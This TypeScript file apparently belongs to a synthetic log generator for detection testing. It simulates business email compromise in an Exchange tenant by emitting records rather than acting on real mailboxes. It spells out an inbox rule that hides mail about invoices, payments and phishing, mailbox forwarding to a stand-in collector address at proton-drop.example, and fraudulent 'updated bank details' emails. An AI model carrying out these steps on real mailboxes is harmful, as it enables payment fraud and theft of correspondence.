import { minute } from '../clock.js'
import { remove, send } from '../correspondence.js'
import { guid, hexText } from '../guid.js'
import { Reader } from '../reader.js'
import { emitAdmin, objectOf } from '../records/exchange-admin.js'
import { type Caller, emitMailbox } from '../records/mailbox.js'
import { emitInboxRule } from '../records/rules.js'
import type { Plot, Storyline } from '../story.js'
import { browserOf } from '../world/agents.js'
import { apps } from '../world/apps.js'
import { recentMessages } from '../world/messages.js'
import { externalDomains } from '../world/names.js'
import type { Mailbox } from '../world/person.js'
import { intruderAddress, intruderSession, intruderTime, rentedAgent } from './intruder.js'
import { chooseVictims } from './victims.js'

/** Payment fraud from a stolen mailbox: read, hide the replies with a rule, forward, then write to the payers. */
export const becRule: Storyline = {
  name: 'bec-rule',
  about: 'An inbox rule hides the replies, mail is forwarded outside, and payment requests go out',
  quiet: 'a rule that files one sender away, no forwarding, four mails sent',
  techniques: ['T1078.004', 'T1564.008', 'T1114.003', 'T1534', 'T1070.008'],
  parameters: {
    mailboxes: { about: 'mailboxes taken over', loud: 1, quiet: 1 },
    mails: { about: 'mails sent', loud: 60, quiet: 4 },
    messages: { about: 'messages read first', loud: 24, quiet: 6 },
  },
  start(plot) {
    const victims = chooseVictims(plot, plot.parameter('mailboxes'))
    for (const who of victims) plot.victim(who)
    return (dayIndex) => {
      if (dayIndex === plot.firstDay) for (const who of victims) takeOver(plot, who, dayIndex)
    }
  },
}

function takeOver(plot: Plot, who: Mailbox, dayIndex: number): void {
  const { tenant, emit } = plot
  const stream = plot.streamOf('take-over', who.index)
  const address = intruderAddress(plot, who)
  const session = intruderSession(plot, who, apps.owa, 'bec')
  const at = intruderTime(plot, who, dayIndex, 'bec')
  const token = session.signIn(at, address, emit, { multiFactor: false, incomingTokenType: 'none' })
  const caller: Caller = {
    logonType: 0,
    clientInfo: `Client=OWA;${plot.isQuiet ? browserOf(who, dayIndex).agent : rentedAgent};`,
    ip: address.ip,
    appId: apps.exchange.id,
    clientAppId: apps.owa.id,
    sessionId: session.id,
    token,
  }
  const reader = new Reader(plot, who, stream.at('reader'))
  const wanted = plot.parameter('messages')
  for (let n = 0; n * 6 < wanted; n++) {
    const time = at + (n + 1) * 3 * minute
    reader.bind(
      caller,
      time,
      recentMessages(tenant, who, stream, { at: time, count: Math.min(6, wanted - n * 6), backDays: 30 }),
    )
  }
  const ruleAt = at + 16 * minute
  makeRule(plot, who, ruleAt, { ip: address.ip, sessionId: session.id, caller })
  if (!plot.isQuiet) forward(plot, who, ruleAt + 2 * minute, address.ip, session.id)
  const act = { tenant, owner: who, caller, stream, emit }
  for (let n = 0; n < plot.parameter('mails'); n++) {
    const recipient = { address: `${hexText(stream, 6).toLowerCase()}@${stream.pick(externalDomains)}` }
    send(act, at + 24 * minute + n * 20_000, {
      subject: 'Updated bank details for invoice',
      recipients: [recipient],
    })
  }
  if (!plot.isQuiet) remove(act, at + 46 * minute, 'HardDelete', 5)
}

interface Foothold {
  readonly ip: string
  readonly sessionId: string
  readonly caller: Caller
}

function makeRule(plot: Plot, who: Mailbox, at: number, { ip, sessionId, caller }: Foothold): void {
  const stream = plot.streamOf('rule', who.index)
  const hiding = plot.isQuiet
    ? {
        name: 'Accounts',
        parameters: { From: 'payments@tinmine-bank.example', MoveToFolder: 'Archive', MarkAsRead: 'True' },
      }
    : {
        name: '.',
        parameters: {
          SubjectOrBodyContainsWords: 'invoice;payment;bank details;fraud;phish',
          MoveToFolder: 'RSS Feeds',
          MarkAsRead: 'True',
          StopProcessingRules: 'True',
        },
      }
  emitInboxRule({ tenant: plot.tenant, by: who, ip, time: at, stream, ...hiding, sessionId }, plot.emit)
  emitMailbox(
    {
      tenant: plot.tenant,
      owner: who,
      caller,
      time: at + 1000,
      id: guid(stream),
      operation: 'UpdateInboxRules',
      recordType: 2,
    },
    plot.emit,
    () => ({
      Item: { Id: 'Unknown', ParentFolder: { Id: 'Unknown', Path: '\\Inbox' } },
      OperationProperties: [
        { Name: 'RuleOperation', Value: 'AddMailboxRule' },
        { Name: 'RuleName', Value: hiding.name },
        { Name: 'RuleState', Value: 'Enabled' },
        { Name: 'RuleCondition', Value: JSON.stringify(hiding.parameters) },
        {
          Name: 'RuleActions',
          Value: JSON.stringify([{ ActionType: 'Move', Folder: hiding.parameters.MoveToFolder }]),
        },
        { Name: 'RuleProvider', Value: 'ExchangeMailboxRules14' },
      ],
    }),
  )
}

function forward(plot: Plot, who: Mailbox, at: number, ip: string, sessionId: string): void {
  emitAdmin(
    {
      tenant: plot.tenant,
      by: who,
      ip,
      time: at,
      id: guid(plot.streamOf('forward', who.index)),
      cmdlet: 'Set-Mailbox',
      objectId: objectOf(plot.tenant, who),
      parameters: {
        Identity: who.upn,
        ForwardingSmtpAddress: `smtp:collector${plot.streamOf('forward').below(1000)}@proton-drop.example`,
        DeliverToMailboxAndForward: 'True',
      },
      fromOwa: true,
      sessionId,
    },
    plot.emit,
  )
}
